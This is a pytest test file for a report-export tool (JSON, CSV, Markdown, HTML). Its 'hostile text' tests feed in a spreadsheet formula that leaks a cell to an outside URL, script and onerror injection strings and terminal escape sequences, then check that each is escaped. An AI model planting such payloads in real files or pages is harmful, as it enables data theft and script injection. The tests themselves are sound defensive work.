"""Exports: the JSON round trip through check and import, and sheets that are complete, ordered and escaped."""

from __future__ import annotations

import csv
import io
import json
import re
import sqlite3
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path

import pytest

from reportbot import explain
from reportbot.cli import main
from reportbot.engine import Finding
from reportbot.export import (
    Subject,
    csv_cell,
    render,
    subject_from_store,
    to_csv,
    to_html,
    to_json,
    to_markdown,
)
from reportbot.flow.loader import load_flow
from reportbot.render.typography import typeset
from reportbot.reportfile import parse_report, read_report_file
from reportbot.store import Store
from reportbot.wording import languages, wording, words_for
from reports import REPORTS_DIR, changed, load

HOSTILE = Path(__file__).parent / "data" / "store" / "hostile-fippa.json"
EN = {form: wording("en", form) for form in ("fippa-year-end", "cyfsa-part-x")}


pytestmark = pytest.mark.usefixtures("never_the_real_database")


def _subject(doc: dict, **kw) -> Subject:
    report = parse_report(doc)
    answers = {c: v for c, v in report.answers.items() if report.flow.by_id[c[0]].formula is None}
    acks = {(a["rule"], a.get("column")): a["reason"] for a in report.acknowledged}
    return Subject(report.flow, report.year, answers, acknowledged=acks, language=report.language, **kw)


def _hostile() -> Subject:
    return _subject(json.loads(HOSTILE.read_text(encoding="utf-8"), parse_float=Decimal),
                    organization='=HYPERLINK("x") <b>Org</b>')


def _fixture(name: str, **changes) -> Subject:
    return _subject(changed(load(name), changes))


def _cli(capsys, *args: str) -> tuple[int, str, str]:
    status = main(list(args))
    out, err = capsys.readouterr()
    return status, out, err


# --- json ----------------------------------------------------------------------------------------


@pytest.mark.parametrize("name", ["fippa-full", "cyfsa-full", "fippa-zero", "fippa-corrections-only"])
def test_json_round_trips_through_check_and_import(tmp_path, capsys, name):
    db = str(tmp_path / "r.sqlite3")
    doc = changed(load(name), {})
    if name == "fippa-full":  # with a warning accepted, and money
        doc = changed(doc, {"9.4": {"personal": 13}})
        doc["acknowledged"] = [{"rule": "fippa-9.4-within-9.1", "column": "personal", "reason": "two re-filed"}]
        doc["language"] = "en"
    source = tmp_path / "source.json"
    source.write_text(json.dumps(doc, default=float), encoding="utf-8")
    status, out, _ = _cli(capsys, "--db", db, "import", str(source))
    assert status == 0 and "report 1" in out

    first = tmp_path / "first.json"
    assert _cli(capsys, "--db", db, "export", "1", "--format", "json", "-o", str(first))[0] == 0
    status, out, err = _cli(capsys, "--lang", "en", "check", str(first))
    assert status == 0, out + err
    assert "complete" in out

    status, out, _ = _cli(capsys, "--db", db, "import", str(first))
    assert status == 0 and "report 2" in out
    status, second, _ = _cli(capsys, "--db", db, "export", "2", "--format", "json")
    assert status == 0
    assert second == first.read_text(encoding="utf-8")

    exported = json.loads(second)
    assert exported["status"] == "draft" and exported["format"] == "reportbot/1"
    # the derived totals are in the file
    flow = load_flow(exported["report"])
    assert any(flow.by_id[b].formula is not None for b in exported["answers"])
    if name == "fippa-full":
        assert exported["acknowledged"] == doc["acknowledged"]
        with Store.open(db) as s:
            assert str(s.answers(2)[("9.2", "personal")]) == "900.00"


def test_json_carries_the_status_and_import_makes_a_draft(tmp_path, capsys):
    db = str(tmp_path / "r.sqlite3")
    with Store.open(db) as s:
        report = parse_report(load("cyfsa-full"))
        rid = s.import_report("cyfsa-part-x", 2025, {c: v for c, v in report.answers.items()
                                                     if report.flow.by_id[c[0]].formula is None})
        s.confirm(rid)
    status, out, _ = _cli(capsys, "--db", db, "export", "--format", "json")
    assert status == 0 and json.loads(out)["status"] == "confirmed"
    path = tmp_path / "confirmed.json"
    path.write_text(out, encoding="utf-8")
    assert read_report_file(path).status == "confirmed"
    _cli(capsys, "--db", db, "import", str(path))
    with Store.open(db) as s:
        assert s.get(2).status == "draft"


# --- the sheets: complete and in order ---------------------------------------------------------------


def test_markdown_has_every_section_and_box_in_questionnaire_order():
    subject = _fixture("fippa-full")
    words = EN["fippa-year-end"]
    sheet = to_markdown(subject, words)
    flow = subject.flow
    positions = [sheet.index(f"## Section {s.id}: {s.title}") for s in flow.flow.sections]
    assert positions == sorted(positions)
    rows = [m.group(1) for m in re.finditer(r"^\| (?:\*\*)?([0-9a-z._]+)(?:\*\*)? \|", sheet, re.M)]
    assert rows == [b.id for s in flow.flow.sections for b in s.boxes]
    assert "| Box | Label | Personal information | General records |" in sheet
    assert "| Box | Label | Value |" in sheet


def test_markdown_marks_totals_provisional_labels_and_columns_that_do_not_apply():
    sheet = to_markdown(_fixture("fippa-full"), EN["fippa-year-end"])
    assert "| **3.4** | **Total requests (3.1 + 3.2 + 3.3)** *(total: 3.1 + 3.2 + 3.3)* | **200** | **282** |" in sheet
    row = next(line for line in sheet.splitlines() if line.startswith("| 4.1 |"))
    number = re.search(r"\(provisional label\)\* \\\[(\d+)\\\]", row).group(1)
    section4 = sheet.split("## Section 4")[1].split("## Section 5")[0]
    assert f"\\[{number}\\] Provisional label:" in section4
    assert "Source of requests" in section4 and "ipc-forms-evidence.md" in section4
    row812 = next(line for line in sheet.splitlines() if line.startswith("| 8.12 |"))
    assert "does not apply" in row812
    assert "| 9.2 | Total amount collected for application fees (dollars) | $900.00 | $1,200.00 |" in sheet


def test_markdown_shows_skipped_boxes_with_the_reason():
    subject = _fixture("fippa-zero")
    words = EN["fippa-year-end"]
    sheet = to_markdown(subject, words)
    row = next(line for line in sheet.splitlines() if line.startswith("| 4.1 |"))
    assert row.endswith("| skipped (a) | skipped (a) |")
    reason = explain.route_reason(subject.flow, words, subject.evaluation.skipped_by[("4.1", "personal")])
    section4 = sheet.split("## Section 4")[1].split("## Section 5")[0]
    assert "(a) Skipped: " in section4
    assert reason.split(".")[0][:40] in section4.replace("\\", "")


def test_markdown_lists_accepted_warnings_with_reasons_and_what_is_still_open():
    subject = _fixture("fippa-full", **{"9.4": {"personal": 13}, "4.1": {"personal": 171}, "2.1": None})
    subject.acknowledged = {("fippa-9.4-within-9.1", "personal"): "two were re-filed"}
    sheet = to_markdown(subject, EN["fippa-year-end"])
    head, rest = sheet.split("## Warnings accepted")
    accepted = rest.split("## Section 1")[0]
    assert "9.4 = 13" in accepted and "Reason: two were re-filed" in accepted
    assert "4.9" in head and "error" in head.lower()  # 4.9 no longer equals 3.8
    assert "Not answered (1): 2.1" in head
    assert "1 box not answered, 1 error, 0 warnings not yet accepted." in sheet  # issue 13 item 20: grammar


@pytest.mark.parametrize(
    "status, confirmed_at, expected",
    [
        ("draft", None, "Draft, not yet confirmed"),
        ("confirmed", "2025-03-02T15:04:00+00:00", "Confirmed on 2025-03-02"),
        ("draft", "2025-03-02T15:04:00+00:00", "changed since it was confirmed on 2025-03-02"),
    ],
)
def test_the_status_is_on_every_sheet(status, confirmed_at, expected):
    subject = _fixture("cyfsa-zero")
    subject.status, subject.confirmed_at = status, confirmed_at
    words = EN["cyfsa-part-x"]
    for fmt in ("md", "html"):
        assert expected in render(fmt, subject, words)


def test_html_is_standalone_and_prints_one_section_per_page():
    subject = _fixture("fippa-full")
    page = to_html(subject, EN["fippa-year-end"])
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert page.count('<section class="part"') == len(subject.flow.flow.sections)
    assert "break-before: page" in page and "page-break-before: always" in page
    assert "<link" not in page and "src=" not in page and "<script" not in page
    assert '<tr class="total"><td class="box">3.4</td>' in page
    assert "<th scope=\"col\">Personal information</th><th scope=\"col\">General records</th>" in page


def test_csv_has_one_row_per_cell_in_questionnaire_order():
    subject = _fixture("fippa-zero")
    rows = list(csv.reader(io.StringIO(to_csv(subject, EN["fippa-year-end"]))))
    # issue 13 item 20: the report's facts follow the first four columns
    assert rows[0] == ["box", "column", "label", "value", "state", "report", "year", "organization", "status",
                       "questionnaire"]
    flow = subject.flow
    assert [(r[0], r[1]) for r in rows[1:]] == [(c[0], c[1] or "") for c in flow.cells]
    by_cell = {(r[0], r[1]): r[3] for r in rows[1:]}
    assert by_cell[("1.3", "")] == "6.5"
    assert by_cell[("1.2", "")] == "Agency"
    assert by_cell[("3.4", "personal")] == "0"
    assert by_cell[("4.1", "personal")] == ""  # skipped
    assert ("8.12", "personal") not in by_cell


def _csv_rows(subject: Subject, words) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(to_csv(subject, words))))


def test_csv_carries_the_reports_facts_on_every_row_as_one_table():
    subject = _fixture("fippa-zero")
    subject.organization, subject.status = "Ontario Heritage Review Board", "confirmed"
    rows = _csv_rows(subject, EN["fippa-year-end"])
    facts = {(r["report"], r["year"], r["organization"], r["status"], r["questionnaire"]) for r in rows}
    assert facts == {("fippa-year-end", "2005", "Ontario Heritage Review Board", "confirmed", "Zero report")}
    assert all(len(r) == 10 and None not in r for r in rows)  # one rectangular table, header on the first line


@pytest.mark.parametrize("answers, expected", [
    ({"questionnaire": "full"}, "Full report"),  # chosen
    ({}, "Zero report"),  # not chosen: every deciding box (3.1, 3.2, 3.3, 11.1, 11.2) is 0
    ({"3.1": {"personal": 1}}, "Full report"),
    ({"3.1": None}, ""),  # not known yet
])
def test_the_questionnaire_is_the_one_chosen_else_the_one_the_deciding_boxes_imply(answers, expected):
    subject = _fixture("fippa-zero", **answers)
    assert {r["questionnaire"] for r in _csv_rows(subject, EN["fippa-year-end"])} == {expected}
    fact = f"**Questionnaire:** {expected or 'not chosen yet'}  "
    assert fact in to_markdown(subject, EN["fippa-year-end"])


def test_csv_tells_a_skipped_box_from_an_unanswered_one():
    subject = _fixture("cyfsa-full", **{"2.1": None, "factors": None, "3.1": None})
    by_box = {r["box"]: r for r in _csv_rows(subject, EN["cyfsa-part-x"])}
    assert (by_box["1.2.other"]["value"], by_box["1.2.other"]["state"]) == ("", "not applicable")  # skipped
    assert (by_box["2.1"]["value"], by_box["2.1"]["state"]) == ("", "missing")
    assert by_box["factors"]["state"] == "not answered (optional)"
    assert (by_box["4.1"]["value"], by_box["4.1"]["state"]) == ("31", "answered")
    assert (by_box["4.4"]["value"], by_box["4.4"]["state"]) == ("39", "total")
    french = list(csv.reader(io.StringIO(to_csv(subject, wording("fr", "cyfsa-part-x")))))
    assert french[0][:5] == ["case", "colonne", "libellé", "valeur", "état de la case"]
    states = {r[0]: r[4] for r in french[1:]}
    assert (states["1.2.other"], states["2.1"], states["4.4"]) == ("sans objet", "sans réponse", "total calculé")


@pytest.mark.parametrize("language, ministry, full", [("en", "Ministry", "Full report"),
                                                     ("fr", "Ministère", "Rapport complet")])
def test_sheets_show_choices_by_label_and_json_keeps_ids(language, ministry, full):
    subject = _fixture("fippa-full", **{"questionnaire": "full"})
    words = wording(language, "fippa-year-end")
    by_box = {r[0]: r[3] for r in csv.reader(io.StringIO(to_csv(subject, words)))}
    assert (by_box["1.2"], by_box["questionnaire"]) == (ministry, full)
    sheet = to_markdown(subject, words)
    assert re.search(rf"^\| 1\.2 \|.*\| {ministry} \|$", sheet, re.M)
    assert re.search(rf"^\| questionnaire \|.*\| {full} \|$", sheet, re.M)
    assert f"<td class=\"value\">{ministry}</td>" in to_html(subject, words)
    answers = json.loads(to_json(subject))["answers"]
    assert (answers["1.2"], answers["questionnaire"]) == ("ministry", "full")


def test_an_off_route_choice_is_named_by_its_label():
    flow = load_flow("cyfsa-part-x")
    facts = {"value": "childrens_aid_society", "route": "cyfsa-no-access-requests"}
    finding = Finding("warning", "off-route-1.2", "off-route", ("1.2",), None, facts)
    assert "(Children’s aid society)" in explain.summary(flow, EN["cyfsa-part-x"], finding)


def test_french_sheets_use_french_typography_and_leave_the_filers_text_as_typed():
    subject = _fixture("fippa-full")
    subject.organization = "Bureau : accès?"
    subject.acknowledged = {("fippa-9.4-within-9.1", "personal"): "deux : refaits!"}
    subject.answers[("9.4", "personal")] = 13
    words = wording("fr", "fippa-year-end")
    nb = "\u00a0"
    sheet = to_markdown(subject, words)
    assert f"**Organisation{nb}:** Bureau : accès?  " in sheet
    assert f"## Section 1{nb}: Identification" in sheet
    assert f"un ministère ou un organisme{nb}? | Ministère |" in sheet
    assert f"Raison{nb}: deux : refaits!" in sheet
    assert "| 1.3 |" in sheet and "| 412,5 |" in sheet and "| 900,00 $ |" in sheet
    ours = sheet.replace("Bureau : accès?", "").replace("deux : refaits!", "")
    # the evidence is English, and 6a holds the filer's own text
    ours = "\n".join(line for line in ours.splitlines() if "(en anglais)" not in line and "| 6a |" not in line)
    assert re.findall(r"(?: |\w)[:;!?](?:\s|$)", ours) == []
    page = to_html(subject, words)
    assert f"<title>Bureau : accès?{nb}: Rapport" in page and "<dt>Type de questionnaire</dt>" in page
    assert "Organisation:" not in page.replace(nb, "")


@pytest.mark.parametrize("text, expected", [
    ('Dites "oui" : fin', "Dites «\u00a0oui\u00a0»\u00a0: fin"),
    ("Prêt? Oui; non! « déjà »", "Prêt\u00a0? Oui\u00a0; non\u00a0! «\u00a0déjà\u00a0»"),
    ("(prêt?)", "(prêt\u00a0?)"),
    ("10:15, http://x, 1.2: {text!r}", "10:15, http://x, 1.2\u00a0: {text!r}"),
])
def test_french_typography(text, expected):
    assert typeset(text, wording("fr")) == expected
    assert typeset(text, wording("en")) == text


@pytest.mark.parametrize("language, counts, warnings", [
    ("en", ["0 boxes not answered, 0 errors, 0 warnings not yet accepted.",
            "1 box not answered, 1 error, 1 warning not yet accepted.",
            "2 boxes not answered, 2 errors, 1 warning not yet accepted."], "2 warnings not yet accepted"),
    ("fr", ["0 case sans réponse, 0 erreur, 0 avertissement pas encore accepté.",
            "1 case sans réponse, 1 erreur, 1 avertissement pas encore accepté.",
            "2 cases sans réponse, 2 erreurs, 1 avertissement pas encore accepté."],
     "2 avertissements pas encore acceptés"),
])
def test_sheet_counts_agree_with_their_number(language, counts, warnings):
    words = wording(language, "cyfsa-part-x")
    changes = [{}, {"2.1": None, "9.1": 4, "11.2.1": 2},
               {"2.1": None, "8.1": None, "9.1": 4, "7.1": 3, "11.2.1": 2, "12.2.4": 2}]
    for change, text in zip(changes, counts, strict=True):
        assert text in to_markdown(_fixture("cyfsa-full", **change), words)
    assert words.plural("sheet.count.warnings", 2) == warnings


# --- hostile text ---------------------------------------------------------------------------------------


def test_csv_neutralises_formulas():
    rows = list(csv.reader(io.StringIO(to_csv(_hostile(), EN["fippa-year-end"]))))
    cells = [c for r in rows for c in r]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    by_box = {r[0]: r[3] for r in rows[1:] if r[1] == ""}
    assert by_box["1.1.institution"] == "'=HYPERLINK(\"http://example.invalid/?leak=\"&A1,\"Click\")"
    assert by_box["1.1.phone"] == "'+1 416 555 0100"
    assert by_box["1.1.email"].startswith("'@SUM")
    assert by_box["1.1.mailing_address"].startswith("'-2+3")


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("12", "12"), ("a=1", "a=1"), ("", ""),
])
def test_csv_cell(text, expected):
    assert csv_cell(text) == expected


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attrs: set[str] = set()
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.add(tag)
        self.attrs |= {name for name, _ in attrs}

    def handle_data(self, data):
        self.text.append(data)


def test_html_shows_hostile_text_as_text():
    page = to_html(_hostile(), EN["fippa-year-end"])
    parser = _Tags()
    parser.feed(page)
    assert parser.tags <= {
        "html", "head", "meta", "title", "style", "body", "section", "h1", "h2", "dl", "dt", "dd", "p",
        "ul", "li", "br", "em", "table", "thead", "tbody", "tr", "th", "td", "span", "sup",
    }
    assert parser.attrs <= {"lang", "charset", "http-equiv", "content", "name", "class", "id", "scope"}
    text = "".join(parser.text)
    assert '<script>alert("owned")</script>' in text
    assert '"><img src=x onerror=alert(1)>' in text
    assert "</td></tr></table>" in text
    assert "=1+1 <i>checked</i>" in text  # the reason given for the accepted warning
    assert "<b>Org</b>" in text


def test_markdown_shows_hostile_text_as_text():
    sheet = to_markdown(_hostile(), EN["fippa-year-end"])
    assert re.findall(r"(?<!\\)<(?!br>)", sheet) == []  # every < the filer typed is escaped
    assert "\\<script\\>" in sheet
    row = next(line for line in sheet.splitlines() if line.startswith("| 1.1.mailing_address |"))
    assert len(re.findall(r"(?<!\\)\|", row)) == 4  # the filer's pipes do not make new columns
    row = next(line for line in sheet.splitlines() if line.startswith("| 6a |"))
    assert "Line one<br>Line two" in row


def test_no_control_sequence_reaches_any_export(tmp_path):
    db = tmp_path / "r.sqlite3"
    with Store.open(db) as s:
        report = parse_report(load("fippa-full"))
        rid = s.import_report("fippa-year-end", 2005, {c: v for c, v in report.answers.items()
                                                        if report.flow.by_id[c[0]].formula is None})
        s.acknowledge(rid, "fippa-7.7-within-7.6", "personal", "fine")
    # as if written by an older version, or by hand: straight into the file
    raw = sqlite3.connect(db)
    raw.execute("UPDATE answers SET value = 'A\x1b[2JB\x1b]0;pwned\x07C\x9b31m' WHERE box = '6a'")
    raw.execute("UPDATE reports SET organization = 'Org\x1b[5m'")
    raw.execute("UPDATE acknowledgements SET reason = 'why\x1b[8m'")
    raw.commit()
    raw.close()
    with Store.open(db) as s:
        subject = subject_from_store(s, rid)
    for fmt in ("json", "csv", "md", "html"):
        out = render(fmt, subject, EN["fippa-year-end"])
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]", out.replace("\r\n", "\n")), fmt
        assert "ABC" in out and "31m" not in out, fmt  # the 8-bit CSI goes with its parameters


# --- words --------------------------------------------------------------------------------------------------


def test_unknown_languages_fall_back_to_english():
    assert words_for("xx", "fippa-year-end").language == "en"
    assert words_for(None).language == "en"


@pytest.mark.skipif("fr" not in languages(), reason="no French dialogs")
def test_a_language_without_these_messages_yet_borrows_them_from_english():
    words = words_for("fr", "cyfsa-part-x")
    assert words.language == "fr"
    assert words.t("sheet.head.box")  # French if translated, English until then: never an error
    sheet = to_markdown(_fixture("cyfsa-full"), words)
    assert sheet.startswith("# ")


def test_labels_and_titles_come_from_the_report_language():
    en = EN["cyfsa-part-x"]
    report = en.report.model_copy(update={
        "title": "Rapport statistique annuel",
        "sections": {**en.report.sections, "3": en.report.sections["3"].model_copy(update={"title": "Demandes reçues"})},
        "boxes": {**en.report.boxes, "3.1": en.report.boxes["3.1"].model_copy(update={"label": "Demandes écrites"})},
    })
    words = type(en)(en.common, report)
    sheet = to_markdown(_fixture("cyfsa-full"), words)
    assert sheet.startswith("# Rapport statistique annuel")
    assert "## Section 3: Demandes reçues" in sheet
    assert "| 3.1 | Demandes écrites |" in sheet


def test_json_is_the_report_file(tmp_path):
    subject = _fixture("cyfsa-full")
    path = tmp_path / "r.json"
    path.write_text(to_json(subject), encoding="utf-8")
    back = read_report_file(path)
    assert back.answers == {**subject.answers, **subject.evaluation.derived()}


def test_fixture_reports_exist():
    assert (REPORTS_DIR / "fippa-full.json").is_file() and HOSTILE.is_file()
